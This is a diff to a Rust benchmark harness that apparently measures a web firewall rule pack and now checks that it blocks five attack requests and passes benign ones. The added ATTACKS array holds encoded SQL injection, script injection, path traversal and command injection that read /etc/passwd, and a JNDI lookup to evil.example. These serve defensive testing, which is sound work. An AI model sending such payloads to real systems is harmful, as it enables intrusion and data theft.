@@ -1,5 +1,6 @@
 //! Judges the peers kit's two benign requests (wrk's `get.lua` GET and
-//! `post.lua` 2 KiB JSON POST) through the embedded default pack with a
+//! `post.lua` 2 KiB JSON POST), or `attack`: the five attacks of
+//! `perf/wrk/mix10.lua` in turn, through the embedded default pack with a
 //! dataplane `CoreKit`, `N` times each, without any I/O. Run it under
 //! callgrind with two values of `N`: the difference over the difference in
 //! requests is the instructions the pack adds per request.
@@ -48,13 +49,26 @@ fn main() {
         (b"Content-Type", b"application/json"),
         (b"Content-Length", len.as_bytes()),
     ];
-    for _ in 0..n {
+    const ATTACKS: [&[u8]; 5] = [
+        b"/?id=1%27%20OR%20%271%27=%271",
+        b"/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        b"/static/..%2f..%2f..%2fetc%2fpasswd",
+        b"/?host=127.0.0.1%3Bcat%20/etc/passwd",
+        b"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+    ];
+    for i in 0..n {
+        let attack = load_kind == "attack";
         match load_kind.as_str() {
             "get" => kit.judge(b"GET", b"/", &get, b"", false, ip, 0),
+            "attack" => kit.judge(b"GET", ATTACKS[i % ATTACKS.len()], &get, b"", false, ip, 0),
             _ => kit.judge(b"POST", b"/", &post, body, false, ip, body.len() as u64),
         }
         .expect("judged");
-        assert!(kit.verdict.decision.is_none(), "benign request stopped");
+        assert_eq!(
+            kit.verdict.decision.is_some(),
+            attack,
+            "request {i} judged wrongly"
+        );
     }
     let hits: Vec<&str> = kit
         .verdict
